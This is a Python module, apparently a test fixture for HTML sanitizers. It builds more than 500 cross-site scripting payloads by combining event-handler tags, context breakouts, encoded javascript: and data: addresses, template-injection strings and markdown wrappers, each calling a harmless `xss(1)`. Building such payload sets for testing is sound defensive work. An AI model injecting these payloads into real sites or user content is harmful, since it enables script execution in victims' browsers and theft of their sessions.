"""Texts that attack a page: each runs `xss()` where a page makes markup or an address of it."""

from itertools import product

RUN = "xss(1)"
LEAST = 500

_TAGS = (
    "<img src=x onerror={run}>",
    "<img src=x:x onerror='{run}'>",
    '<img src=x onerror="{run}">',
    "<img/src/onerror={run}>",
    "<IMG SRC=x OnErRoR={run}>",
    "<image src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>",
    "<svg><a xlink:href=javascript:{run}><text y=20>x</text></a></svg>",
    "<script>{run}</script>",
    "<script src=data:text/javascript,{run}></script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<script\n>{run}</script\n>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe onload={run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<object data=x onerror={run}></object>",
    "<embed src=javascript:{run}>",
    "<video src=x onerror={run}></video>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<input autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<select autofocus onfocus={run}></select>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<marquee onstart={run}>x</marquee>",
    "<a href=javascript:{run}>click</a>",
    "<a href=x onmouseover={run}>over</a>",
    "<p style=animation-name:x onanimationstart={run}>",
    "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={run}>b</b>",
    "<style onload={run}></style>",
    "<link rel=stylesheet href=data:, onload={run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=javascript:{run}//>",
    "<form><button formaction=javascript:{run}>go</button></form>",
    "<form action=javascript:{run}><input type=submit autofocus></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<template><img src=x onerror={run}></template>",
    "<xss id=x tabindex=1 autofocus onfocus={run}>",
    "<img src=x onerror=&#x78;ss(1)>",
    "<img src=x onerror=\\u0078ss(1)>",
    "<a href=&#106;avascript:{run}>x</a>",
    "<a href=java\tscript:{run}>x</a>",
    "<img src=`x` onerror=`{run}`>",
    "<img src=x\x00 onerror={run}>",
    "<img src=x\x0conerror={run}>",
)
# What a text may stand in, and what ends it: attributes, elements, comments, strings of scripts.
_BREAKS = (
    "{tag}",
    '">{tag}',
    "'>{tag}",
    "</textarea>{tag}",
    "</title>{tag}",
    "--></script>{tag}",
)
_ATTRIBUTES = (
    '" onmouseover="{run}',
    "' onmouseover='{run}",
    '" autofocus onfocus="{run}" x="',
    "x onfocus={run} autofocus tabindex=1",
    "`;{run}//",
    "';{run}//",
    '";{run}//',
    "\\';{run}//",
    "</script><script>{run}//",
    "*/{run}/*",
    "]]><script>{run}</script>",
    "{{constructor.constructor('{run}')()}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "＜script＞{run}＜/script＞",
    '{{"event":"message","text":"<script>{run}</script>"}}',
    '__proto__[onload]="{run}"',
    "expression({run})",
    "background:url(javascript:{run})",
)
# Addresses that run something; the marks around them are those that make links of text.
_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "javascript://example.com/%0a{run}",
    "javascript:%78ss(1)",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "\x01javascript:{run}",
    " javascript:{run}",
    "javascript&colon;{run}",
    "javascript&#58;{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=",
    "vbscript:{run}",
    "file:///etc/passwd#{run}",
    "blob:http://127.0.0.1/{run}",
    "view-source:javascript:{run}",
    'http://example.com/"onmouseover="{run}',
    "http://example.com/'onmouseover='{run}",
    "http://example.com/<img src=x onerror={run}>",
    "http://user:javascript:{run}@example.com/",
    "http://javascript:{run}",
    "//example.com/{run}",
    'mailto:x"onclick="{run}@example.com',
    'irc://x/" onclick={run} "',
)
_LINKS = (
    "{address}",
    "[click]({address})",
    "[{address}](http://example.com)",
    "![picture]({address})",
    "<{address}>",
    "[x]: {address}",
    "www.{address}",
)
_MARKS = (
    "**{tag}**",
    "*{tag}*",
    "_{tag}_",
    "~~{tag}~~",
    "`{tag}`",
    "```\n{tag}\n```",
    "```{tag}\nx\n```",
    "> {tag}",
    "||{tag}||",
    "@{tag}",
    "#{tag}",
    ":{tag}:",
)
# Words that are also what every object of JavaScript has.
OBJECT_WORDS = (
    "constructor",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "isPrototypeOf",
    "prototype",
    "length",
    "name",
    "then",
)


def attacks() -> list[str]:
    """Return at least 500 different attacks."""
    tags = [tag.format(run=RUN) for tag in _TAGS]
    addresses = [address.format(run=RUN) for address in _ADDRESSES]
    found = [form.replace("{tag}", tag) for tag, form in product(tags, _BREAKS)]
    found += [form.format(run=RUN) for form in _ATTRIBUTES]
    found += [form.replace("{address}", item) for item, form in product(addresses, _LINKS)]
    found += [form.replace("{tag}", tag) for tag, form in product(tags[:6], _MARKS)]
    return list(dict.fromkeys(found))
